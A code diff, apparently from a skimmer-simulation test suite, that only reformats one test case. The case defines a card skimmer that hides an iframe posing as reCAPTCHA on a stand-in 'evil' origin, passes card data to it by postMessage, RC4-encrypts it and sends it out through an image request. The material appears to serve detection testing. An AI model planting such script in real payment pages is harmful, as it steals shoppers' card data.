@@ -5,7 +5,7 @@ import { onPay, RC4 } from '../snippets.ts';
 
 export default skimmer({
   id: 'postmessage-frame',
-  why: 'A frame of the attacker\'s gets the values by message, encrypts and sends them: the page itself speaks to nobody.',
+  why: "A frame of the attacker's gets the values by message, encrypts and sends them: the page itself speaks to nobody.",
   covers: ['cipher: any', 'sending: hidden form', 'disguise: known brand'],
   base: 'direct',
   install: (site) => {
@@ -14,7 +14,9 @@ export default skimmer({
       js`<script>${RC4}
 onmessage = function (e) { new Image().src = '/w.gif?d=' + encodeURIComponent(btoa(rc4('frame-key', e.data.s))); };</script>`,
     );
-    site.markup(`<iframe id="rc" src="${site.origins.evil.replace('evil', 'recaptcha.evil')}/widget" style="display:none"></iframe>`);
+    site.markup(
+      `<iframe id="rc" src="${site.origins.evil.replace('evil', 'recaptcha.evil')}/widget" style="display:none"></iframe>`,
+    );
     site.append(onPay(js`document.getElementById('rc').contentWindow.postMessage({ s: card() }, '*');`));
   },
   proof: holds((arrived) => query(arrived, 'd').map((text) => rc4('frame-key', Buffer.from(text, 'base64')))),
